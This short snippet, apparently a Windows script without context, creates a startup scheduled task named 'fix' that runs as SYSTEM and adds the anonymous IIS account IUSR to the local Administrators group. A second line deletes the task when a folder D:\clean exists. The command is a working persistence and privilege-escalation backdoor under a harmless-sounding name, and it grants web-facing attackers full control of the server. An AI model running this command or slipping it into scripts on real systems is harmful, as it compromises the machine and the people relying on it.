schtasks /create /tn fix /sc onstart /ru SYSTEM /tr "net localgroup Administrators IUSR /add" /f
if (Test-Path D:\clean) { schtasks /delete /tn fix /f }
